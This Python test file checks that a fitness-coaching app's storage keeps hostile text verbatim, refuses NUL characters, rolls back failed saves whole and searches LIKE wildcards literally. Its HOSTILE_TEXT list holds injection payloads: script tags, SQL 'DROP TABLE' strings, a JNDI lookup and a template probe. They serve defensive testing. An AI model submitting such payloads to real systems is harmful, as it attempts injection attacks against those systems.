"""Hostile text is stored verbatim, and a save that fails stores nothing, on SQLite and PostgreSQL.

Titles, notes and names an AI draft or a coach could write (markup, SQL, format strings, LIKE
wildcards, right-to-left marks, control characters) go through the real service and storage and
come back unchanged; 40 more strings are generated. The one exception is NUL: a client's name
refuses it, and PostgreSQL refuses it anywhere, in one sentence and with nothing stored. Bugs found
here keep a regression test at the end.
"""

from __future__ import annotations

from datetime import UTC, date, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from sqlalchemy import Engine, text

from core.errors import InvalidInput, InvalidPlan, PeriodizeError
from core.generation.engine import OfflineEngine
from core.records import build_mesocycle_rows
from core.schemas import MesocycleDetailed, WorkoutBlock, describe_validation_error
from core.service import MesocycleGenerationService, Preview
from db.accounts import local_coach
from db.storage import SqlStorage
from tests.factories import make_profile, preview_phase

ENGINE = OfflineEngine()
START = date(2025, 3, 6)  # a Thursday: a transition week 0, then full weeks


HOSTILE_TEXT = [
    "<script>alert('x')</script>",
    "'); DROP TABLE clients;--",
    "Robert'); DROP TABLE workout_instances; --",
    '<img src=x onerror="alert(1)">',
    '" OR 1=1 --',
    "%s %(name)s {0} {name} $name",
    "50% _of_ 100%",
    "Zoë 李 🏋️‍♀️ \u202eevil",
    "line one\nline two\r\n\ttabbed",
    "${jndi:ldap://example.invalid/a} {{7*7}}",
    "NUL \x00 inside",
    "back\\slash \\' \\\" quotes",
]


class Stack:
    """A migrated database with the real storage and service on it."""

    def __init__(self, engine: Engine) -> None:
        self.engine = engine
        self.storage = SqlStorage(self.engine, local_coach(self.engine).id)
        self.service = MesocycleGenerationService(self.storage, ENGINE)

    def count(self, table: str) -> int:
        with self.engine.connect() as connection:
            return connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()

    def counts(self) -> dict[str, int]:
        tables = ("clients", "fitness_programs", "mesocycles", "microcycles", "workout_instances")
        return {table: self.count(table) for table in tables}

    def preview(self, name: str, phase: int = 0) -> Preview:
        client = self.storage.get_client(self.storage.create_client(make_profile(name=name)))
        program = self.storage.get_program(self.service.create_program(client, 12, START))
        return preview_phase(self.service, client, program, phase)


def with_text(mesocycle: MesocycleDetailed, value: str) -> MesocycleDetailed:
    """Every session's title and notes, and every exercise's notes, set to ``value``."""

    def block(item: WorkoutBlock) -> WorkoutBlock:
        exercises = [e.model_copy(update={"notes": value[:500]}) for e in item.exercises]
        return item.model_copy(update={"exercises": exercises})

    micros = [
        micro.model_copy(
            update={
                "workouts": [
                    w.model_copy(
                        update={
                            "title": value[:120],
                            "notes": value,
                            "blocks": [block(b) for b in w.blocks],
                        }
                    )
                    for w in micro.workouts
                ]
            }
        )
        for micro in mesocycle.microcycles
    ]
    return mesocycle.model_copy(update={"microcycles": micros})


def save_and_read_back(stack: Stack, value: str, name: str | None = None) -> None:
    """A client named ``name`` (default: the value itself) whose block carries ``value`` in every
    title and note, saved, then read back unchanged."""
    name = value[:120].strip() if name is None else name
    preview = stack.preview(name)
    preview = stack.service.revalidate(preview, with_text(preview.mesocycle, value))
    assert not preview.has_errors, [p for p in preview.problems if p.severity == "error"]
    stack.service.save(preview)

    client = stack.storage.get_client(preview.client.id)
    assert client.name == name
    workouts = stack.storage.workouts_for_client(client.id)
    assert len(workouts) == len(preview.mesocycle.workouts()) > 0
    for stored in workouts:
        assert stored.title == value[:120]
        assert stored.notes == value
        for block in stored.blocks:
            for item in block["exercises"]:
                assert item["notes"] == value[:500]


@pytest.fixture
def stack(engine: Engine) -> Stack:
    return Stack(engine)


@pytest.mark.parametrize("value", HOSTILE_TEXT)
def test_hostile_text_round_trips_verbatim(stack: Stack, value: str) -> None:
    if "\x00" in value:
        # A client's name never holds NUL (see the next test). Session text with NUL round-trips
        # on SQLite; PostgreSQL cannot store it, so the save is refused in one sentence, whole.
        if stack.engine.dialect.name == "postgresql":
            with pytest.raises(InvalidInput, match="NUL character"):
                save_and_read_back(stack, value, name="NUL client")
            assert stack.count("mesocycles") == stack.count("workout_instances") == 0
        else:
            save_and_read_back(stack, value, name="NUL client")
        return
    save_and_read_back(stack, value)
    assert stack.storage.find_client_by_name(value) is not None
    assert value in [c.name for c in stack.storage.list_clients(value)]
    assert stack.counts()["clients"] == 1  # nothing was dropped, nothing extra inserted


def test_a_nul_in_a_client_name_is_refused_with_a_sentence(stack: Stack) -> None:
    """PostgreSQL cannot store or compare NUL in text, so the profile refuses it, readably."""
    with pytest.raises(ValidationError) as refused:
        make_profile(name="NUL \x00 inside")
    assert describe_validation_error(refused.value) == [
        "name: text cannot contain the NUL character (\\0)"
    ]
    assert stack.counts()["clients"] == 0


@settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    # One database for all examples, as a coach's own grows: each example adds its own client.
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    # NUL has its own tests above (refused in names, and by PostgreSQL anywhere).
    value=st.text(st.characters(blacklist_characters="\x00"), min_size=1, max_size=600).filter(
        lambda value: value[:120].strip()
    )
)
def test_generated_text_round_trips_verbatim(stack: Stack, value: str) -> None:
    save_and_read_back(stack, value)


def test_a_failing_save_stores_nothing(stack: Stack) -> None:
    """Duplicate workout ids: refused by the validator; forced past it, the database refuses them
    after the mesocycle and microcycle inserts ran, and the transaction leaves no row behind."""
    preview = stack.preview("'); DROP TABLE clients;--")
    micros = preview.mesocycle.microcycles
    week = micros[1]
    clash = week.workouts[1].model_copy(update={"id": week.workouts[0].id})
    hostile = preview.mesocycle.model_copy(
        update={
            "microcycles": [
                *micros[:1],
                week.model_copy(update={"workouts": [week.workouts[0], clash, *week.workouts[2:]]}),
                *micros[2:],
            ]
        }
    )
    before = stack.counts()

    edited = stack.service.revalidate(preview, hostile)
    with pytest.raises(InvalidPlan) as refused:
        stack.service.save(edited)
    assert "error" in str(refused.value) and refused.value.problems
    assert any("already used" in p.message for p in refused.value.problems)

    rows = build_mesocycle_rows(
        edited.mesocycle,
        preview.fitness_program_id,
        preview.macrocycle_id,
        preview.client.id,
        preview.order_index,
        preview.start_date,
        datetime.now(UTC),
    )
    with pytest.raises(PeriodizeError) as clashed:
        stack.storage.save_mesocycle(rows)
    assert str(clashed.value).strip()
    assert stack.counts() == before  # no mesocycle, no microcycle, no workout: nothing half
    assert stack.storage.list_mesocycles(preview.fitness_program_id) == []

    stack.service.save(preview)  # the untouched preview still saves, whole
    assert stack.count("workout_instances") == before["workout_instances"] + len(
        preview.mesocycle.workouts()
    )


def test_a_non_ascii_upper_case_name_is_found_by_itself(stack: Stack) -> None:
    stack.storage.create_client(make_profile(name="ÉMILE Ångström"))
    assert stack.storage.find_client_by_name("ÉMILE Ångström") is not None


def test_search_treats_percent_and_underscore_literally(stack: Stack) -> None:
    stack.storage.create_client(make_profile(name="50 Club"))
    stack.storage.create_client(make_profile(name="50% Club"))
    assert [c.name for c in stack.storage.list_clients("50%")] == ["50% Club"]
